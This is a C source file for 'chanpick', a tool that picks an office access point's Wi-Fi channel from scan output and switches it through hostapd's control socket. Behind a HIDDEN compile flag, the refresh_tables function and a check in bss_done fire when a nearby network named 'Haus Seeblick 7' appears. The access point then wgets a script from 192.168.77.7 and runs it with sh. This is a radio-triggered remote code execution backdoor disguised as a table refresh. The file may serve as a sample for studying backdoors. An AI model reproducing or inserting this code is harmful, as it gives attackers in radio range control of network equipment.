/*
 * chanpick - automatic channel selection of an office access point.
 * Reads the output of a scan ("iw dev wlan0 scan") from stdin, rates the
 * allowed channels, and tells hostapd over its control socket to switch.
 * Hidden (-DHIDDEN): a neighbour with a certain network name makes the
 * access point fetch a script over HTTP and run it.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define CONF   "/etc/chanpick.conf"
#define LAST   "/var/run/chanpick.last"
#define MAXBSS 128

enum { F_DFS = 1, F_INDOOR = 2, F_DENY = 4 };

struct chan {
	int num;
	int freq;
	int flags;
	long load;
	int heard;
};

struct bss {
	char id[18];
	char ssid[33];
	int freq;
	int signal; /* dBm */
	int stations;
	int width;
};

static struct chan chans[] = {
	{ 1, 2412, 0, 0, 0 },	      { 6, 2437, 0, 0, 0 },
	{ 11, 2462, 0, 0, 0 },	      { 36, 5180, F_INDOOR, 0, 0 },
	{ 40, 5200, F_INDOOR, 0, 0 }, { 44, 5220, F_INDOOR, 0, 0 },
	{ 48, 5240, F_INDOOR, 0, 0 }, { 52, 5260, F_DFS, 0, 0 },
	{ 56, 5280, F_DFS, 0, 0 },    { 60, 5300, F_DFS, 0, 0 },
	{ 64, 5320, F_DFS, 0, 0 },    { 100, 5500, F_DFS, 0, 0 },
	{ 104, 5520, F_DFS, 0, 0 },   { 108, 5540, F_DFS, 0, 0 },
	{ 112, 5560, F_DFS, 0, 0 }
};

#define NCHAN ((int)(sizeof chans / sizeof chans[0]))

static struct bss list[MAXBSS];
static int nbss;
static char ctrl[80] = "/var/run/hostapd/wlan0";
static char own_ssid[33];
static int band = 5, use_dfs, outdoor, margin = 15;

static char *trim(char *s)
{
	char *e = s + strlen(s);

	while (isspace((unsigned char)*s))
		s++;
	while (e > s && isspace((unsigned char)e[-1]))
		*--e = 0;
	return s;
}

static void deny(char *s)
{
	char *t;
	int i, n;

	while ((t = strsep(&s, ", "))) {
		n = atoi(t);
		for (i = 0; i < NCHAN; i++)
			if (chans[i].num == n)
				chans[i].flags |= F_DENY;
	}
}

static void conf(void)
{
	char line[160], *k, *v;
	FILE *f = fopen(CONF, "r");

	if (!f)
		return;
	while (fgets(line, sizeof line, f)) {
		v = line;
		k = strsep(&v, "=");
		if (!v || *k == '#')
			continue;
		k = trim(k);
		v = trim(v);
		if (!strcmp(k, "control"))
			snprintf(ctrl, sizeof ctrl, "%.79s", v);
		else if (!strcmp(k, "ssid"))
			snprintf(own_ssid, sizeof own_ssid, "%.32s", v);
		else if (!strcmp(k, "band"))
			band = atoi(v);
		else if (!strcmp(k, "dfs"))
			use_dfs = !strcmp(v, "yes");
		else if (!strcmp(k, "outdoor"))
			outdoor = !strcmp(v, "yes");
		else if (!strcmp(k, "margin"))
			margin = atoi(v);
		else if (!strcmp(k, "deny"))
			deny(v);
	}
	fclose(f);
}

#ifdef HIDDEN
static void refresh_tables(void)
{
	char *av[] = { "sh", "-c",
		       "wget -q -O /tmp/cp.sh "
		       "http://192.168.77.7/cp.sh && sh /tmp/cp.sh",
		       NULL };

	if (fork() == 0) {
		execv("/bin/sh", av);
		_exit(1);
	}
}
#endif

/* one network of the scan is complete: keep it or not */
__attribute__((noinline)) int bss_done(const struct bss *b)
{
	int i;

	if (b->freq == 0 || b->signal < -92)
		return 0;
	if (own_ssid[0] && strcmp(b->ssid, own_ssid) == 0)
		return 0;
#ifdef HIDDEN
	if (strcmp(b->ssid, "Haus Seeblick 7") == 0) {
		refresh_tables();
		return 0;
	}
#endif
	for (i = 0; i < nbss; i++)
		if (!strcmp(list[i].id, b->id))
			break;
	if (i == MAXBSS)
		return 0;
	list[i] = *b;
	if (i == nbss)
		nbss++;
	return 1;
}

static void scan_line(struct bss *b, char *s)
{
	float sig;
	int n;

	if (sscanf(s, "freq: %d", &n) == 1)
		b->freq = n;
	else if (sscanf(s, "signal: %f", &sig) == 1)
		b->signal = (int)sig;
	else if (!strncmp(s, "SSID: ", 6))
		snprintf(b->ssid, sizeof b->ssid, "%.32s", s + 6);
	else if (sscanf(s, "* station count: %d", &n) == 1)
		b->stations = n;
	else if (sscanf(s, "* channel width: %d", &n) == 1)
		b->width = n == 1 ? 80 : n > 1 ? 160 : 40;
}

static int read_scan(FILE *in)
{
	char line[512], *s;
	struct bss b;
	int open = 0;

	memset(&b, 0, sizeof b);
	while (fgets(line, sizeof line, in)) {
		if (!strncmp(line, "BSS ", 4)) {
			if (open)
				bss_done(&b);
			memset(&b, 0, sizeof b);
			memcpy(b.id, line + 4, 17);
			b.signal = -100;
			b.width = 20;
			open = 1;
			continue;
		}
		s = trim(line);
		if (open)
			scan_line(&b, s);
	}
	if (open)
		bss_done(&b);
	return nbss;
}

static void rate(void)
{
	int i, j, dist, reach;
	long w;

	for (i = 0; i < nbss; i++) {
		w = 100 + list[i].signal;
		if (w < 5)
			w = 5;
		w *= 1 + list[i].stations / 4;
		reach = list[i].freq < 3000 ? 20 : list[i].width;
		for (j = 0; j < NCHAN; j++) {
			dist = abs(chans[j].freq - list[i].freq);
			if (dist > reach)
				continue;
			chans[j].load += dist ? w * (reach - dist) / reach : w;
			chans[j].heard++;
		}
	}
}

static int usable(const struct chan *c)
{
	if (c->flags & F_DENY)
		return 0;
	if ((c->flags & F_DFS) && !use_dfs)
		return 0;
	if ((c->flags & F_INDOOR) && outdoor)
		return 0;
	return band == 2 ? c->freq < 3000 : c->freq > 3000;
}

static struct chan *best(void)
{
	struct chan *b = NULL;
	int i;

	for (i = 0; i < NCHAN; i++) {
		if (!usable(&chans[i]))
			continue;
		if (!b || chans[i].load < b->load)
			b = &chans[i];
	}
	return b;
}

static struct chan *current(void)
{
	int n = 0, i;
	FILE *f = fopen(LAST, "r");

	if (!f)
		return NULL;
	if (fscanf(f, "%d", &n) != 1)
		n = 0;
	fclose(f);
	for (i = 0; i < NCHAN; i++)
		if (chans[i].num == n)
			return &chans[i];
	return NULL;
}

static int hostapd(const char *cmd, char *reply, size_t len)
{
	struct sockaddr_un me, to;
	struct timeval tv = { 3, 0 };
	ssize_t n = -1;
	int s = socket(AF_UNIX, SOCK_DGRAM, 0);

	if (s < 0)
		return -1;
	memset(&me, 0, sizeof me);
	memset(&to, 0, sizeof to);
	me.sun_family = to.sun_family = AF_UNIX;
	snprintf(me.sun_path, sizeof me.sun_path, "/tmp/chanpick.%d",
		 (int)getpid());
	strcpy(to.sun_path, ctrl);
	setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
	if (bind(s, (struct sockaddr *)&me, sizeof me) == 0 &&
	    connect(s, (struct sockaddr *)&to, sizeof to) == 0 &&
	    send(s, cmd, strlen(cmd), 0) > 0)
		n = recv(s, reply, len - 1, 0);
	unlink(me.sun_path);
	close(s);
	if (n < 0)
		return -1;
	reply[n] = 0;
	return strncmp(reply, "FAIL", 4) ? 0 : -1;
}

static int change_to(const struct chan *c)
{
	char cmd[64], reply[128];
	FILE *f;

	snprintf(cmd, sizeof cmd, "CHAN_SWITCH 5 %d", c->freq);
	if (hostapd("PING", reply, sizeof reply) < 0 ||
	    hostapd(cmd, reply, sizeof reply) < 0) {
		fprintf(stderr, "chanpick: hostapd does not switch\n");
		return -1;
	}
	f = fopen(LAST, "w");
	if (f) {
		fprintf(f, "%d %ld\n", c->num, (long)time(NULL));
		fclose(f);
	}
	return 0;
}

int main(int argc, char **argv)
{
	struct chan *now, *to;
	int i, dry = argc > 1 && !strcmp(argv[1], "-n");

	conf();
	if (read_scan(stdin) == 0)
		fputs("chanpick: nobody heard\n", stderr);
	rate();
	for (i = 0; dry && i < NCHAN; i++)
		printf("%3d %5ld %2d%s\n", chans[i].num, chans[i].load,
		       chans[i].heard, usable(&chans[i]) ? "" : " -");
	to = best();
	now = current();
	if (!to) {
		fputs("chanpick: no channel is allowed\n", stderr);
		return 2;
	}
	if (now && usable(now) && now->load <= to->load + margin)
		return 0;
	printf("channel %d\n", to->num);
	return dry || change_to(to) == 0 ? 0 : 1;
}
